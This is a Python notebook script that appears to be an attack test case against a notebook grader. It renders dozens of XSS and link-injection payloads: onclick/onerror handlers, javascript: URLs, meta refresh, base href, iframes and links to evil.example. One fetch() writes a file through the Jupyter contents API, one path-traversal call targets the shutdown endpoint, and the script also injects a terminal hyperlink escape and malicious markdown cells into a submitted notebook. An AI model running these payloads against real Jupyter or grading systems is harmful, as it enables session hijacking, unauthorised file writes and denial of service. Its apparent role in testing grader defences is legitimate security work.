# attack: everything that a person can click, drag, open or point at, leading out, back and into the grader's session
# outcome: earns what the wrong answer earns
# stock: run
from IPython.display import HTML, SVG, Markdown, display

WRITE = "fetch('/api/contents/pwned.txt',{method:'PUT',body:JSON.stringify({type:'file',format:'text',content:'x'})});alert(1)"
PLACES = ("https://evil.example/", "/api/contents/pwned.txt", "/lab/tree/submitted", "/notebooks/a.ipynb", "../../../../api/shutdown", f"javascript:{WRITE}")
KINDS = ("<a href='{0}' target=_blank>x</a>", "<a ping='{0}' href='#x' onclick=\"{1}\">x</a>", "<form action='{0}'><input type=submit><button formaction='{0}'>x</button></form>",
         "<details ontoggle=\"{1}\"><summary onclick=\"{1}\" data-link='{0}'>x</summary></details>", "<map name=m><area href='{0}' shape=default></map><img usemap='#m' src='{0}'>",
         "<iframe src='{0}'></iframe><object data='{0}'></object><embed src='{0}'>", "<svg><a href='{0}'><text onclick=\"{1}\">x</text></a></svg>", "<label for=area_extra_credit onmouseover=\"{1}\">x</label>",
         "<div data-toggle=modal data-target='{0}' data-remote='{0}' tabindex=0 onfocus=\"{1}\">x</div>", "<button class='full-credit mark-graded' onclick=\"{1}\">Full credit</button>",
         "<input class=score id=check-area value=1000><textarea class=comment id=area-comment>x</textarea>", "<meta http-equiv=refresh content='0;url={0}'>", "<base href='{0}'>",
         "<link rel=stylesheet href='{0}'><link rel=prefetch href='{0}'>", "<video src='{0}' onerror=\"{1}\" controls autoplay></video><audio src='{0}' controls></audio>",
         "<math><maction actiontype='statusline' xlink:href='{0}'><mtext>x</mtext></maction></math>", "<p style=\"background:url('{0}');position:fixed;inset:0;cursor:pointer\" onclick=\"{1}\">x</p>",
         "<img src=x srcset='{0} 2x' onerror=\"{1}\">", "<dialog open onclose=\"{1}\"><form method=dialog><button>x</button></form></dialog>", "<a class=live-notebook data-link='{0}'>x</a>")
for place in PLACES:
    for kind in KINDS:
        display(HTML(kind.format(place, WRITE)))
    display(Markdown(f"[x]({place}) ![x]({place}) <{place}>"), SVG(f"<svg xmlns='http://www.w3.org/2000/svg'><a href='{place.replace('&', '&amp;')}'><text>x</text></a></svg>"))
# %% end
raise RuntimeError("\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07 <a href='https://evil.example/'>click</a>")
# %% submission
from nbformat.v4 import new_markdown_cell, new_raw_cell


def submit(nb, folder, places):
    for place in ("https://evil.example/", "/api/contents/pwned.txt", "javascript:alert(1)"):
        text = f"[x]({place}) <a href='{place}' onclick='alert(1)'>x</a> <form action='{place}'><button>x</button></form> <details ontoggle=alert(1)><summary>x</summary></details> - [ ] x"
        nb.cells += [new_markdown_cell(text), new_raw_cell(text, metadata={"raw_mimetype": "text/html"})]
        nb.cells.append(new_markdown_cell(f"```mermaid\ngraph LR\nA-->B\nclick A '{place}'\n```\n\n$\\href{{{place}}}{{x}}$\n\n- [ ] x\n- [x] x"))
